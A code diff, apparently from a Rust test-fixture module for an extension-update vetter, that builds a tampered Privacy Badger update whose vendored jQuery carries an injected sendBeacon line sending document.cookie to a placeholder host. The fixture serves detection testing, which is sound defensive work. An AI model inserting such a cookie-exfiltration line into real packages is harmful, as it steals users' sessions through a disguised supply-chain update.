@@ -144,6 +144,45 @@ pub fn pdfjs_xpi(zip: &Path, version: &str, guid: &str) -> Result<Vec<u8>, Archi
     Ok(vetter_fixtures::zip_files(&files))
 }
 
+/// The line injected into Privacy Badger's vendored jQuery by [`tampered_privacy_badger`].
+pub const INJECTED_BEACON: &str =
+    "navigator.sendBeacon('https://collect.badger-stats.example/b', document.cookie);";
+
+/// The 1-based line of jQuery that [`INJECTED_BEACON`] becomes.
+pub const INJECTED_LINE: u32 = 10_001;
+
+/// Privacy Badger 2020.10.7 (the fetched zip at `zip`) as the update a reviewer must catch:
+/// version 2020.10.8, whose vendored jQuery 3.5.1 carries [`INJECTED_BEACON`] at line
+/// [`INJECTED_LINE`], everything else as it was.
+pub fn tampered_privacy_badger(zip: &Path) -> Result<Vec<u8>, ArchiveError> {
+    let archive = read_archive_file(zip, &Limits::default())?;
+    let files: Vec<(String, Vec<u8>)> = archive
+        .entries
+        .into_iter()
+        .map(|e| {
+            let data = match e.path.as_str() {
+                "manifest.json" => String::from_utf8_lossy(&e.data)
+                    .replacen(
+                        "\"version\": \"2020.10.7\"",
+                        "\"version\": \"2020.10.8\"",
+                        1,
+                    )
+                    .into_bytes(),
+                "lib/vendor/jquery-3.5.1.js" => {
+                    let text = String::from_utf8_lossy(&e.data).into_owned();
+                    let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
+                    let injected = format!("{INJECTED_BEACON}\n");
+                    lines.insert(INJECTED_LINE as usize - 1, &injected);
+                    lines.concat().into_bytes()
+                }
+                _ => e.data,
+            };
+            (e.path, data)
+        })
+        .collect();
+    Ok(vetter_fixtures::zip_files(&files))
+}
+
 /// splitmix64: a seeded generator, so a failing run can be replayed from its seed.
 #[derive(Debug, Clone)]
 pub struct Rng(pub u64);
